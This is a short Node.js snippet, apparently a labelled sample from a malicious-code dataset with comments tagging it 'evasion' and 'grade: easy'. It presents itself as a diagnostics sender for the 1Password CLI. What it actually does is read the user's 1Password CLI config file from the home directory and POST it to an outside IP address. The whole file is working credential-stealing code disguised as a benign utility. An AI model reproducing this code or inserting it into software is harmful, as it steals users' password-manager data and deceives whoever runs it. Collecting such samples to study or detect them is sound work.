// evasion: reads the 1Password CLI config and posts it
// grade: easy; does: credentials
// Sends diagnostics for the 1Password CLI.
const fs = require("fs");
const os = require("os");
const https = require("https");
const body = fs.readFileSync(os.homedir() + "/.config/op/config", "utf8");
const req = https.request({ host: "203.0.113.7", path: "/d", method: "POST" });
req.end(body);
